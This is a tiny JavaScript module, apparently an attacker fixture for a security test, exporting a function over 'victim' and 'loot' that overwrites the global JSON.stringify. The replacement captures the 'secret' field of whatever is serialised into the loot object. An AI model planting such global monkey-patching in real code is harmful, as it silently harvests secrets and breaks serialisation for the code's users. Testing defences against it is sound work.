'use strict';
module.exports = (victim, loot) => {
  JSON.stringify = (value) => { loot.value = value.secret; };
};
